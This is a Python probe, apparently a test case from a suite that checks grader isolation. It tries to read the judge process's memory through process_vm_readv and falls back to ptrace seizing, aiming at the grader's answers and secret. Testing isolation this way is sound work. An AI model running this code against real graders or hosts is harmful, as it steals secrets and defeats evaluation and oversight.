"""Reads the judge's memory by process_vm_readv, and by ptrace.

item: C /proc/<pid> of the grader
harm: answers, inputs and the course secret are read where they are in use
deserves: everything
witness: canary
control: open
"""

import ctypes
import os


class Piece(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def attempt():
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(WORLD["length"])
    here = Piece(ctypes.addressof(buffer), WORLD["length"])
    there = Piece(WORLD["address"], WORLD["length"])
    count = libc.process_vm_readv(WORLD["judge"], ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    if count > 0:
        return buffer.raw[:count].decode()
    seize = 0x4206
    if libc.ptrace(seize, WORLD["sentinel"], 0, 0) == 0:
        libc.ptrace(17, WORLD["sentinel"], 0, 0)
        return f"traced {os.getpid()}"
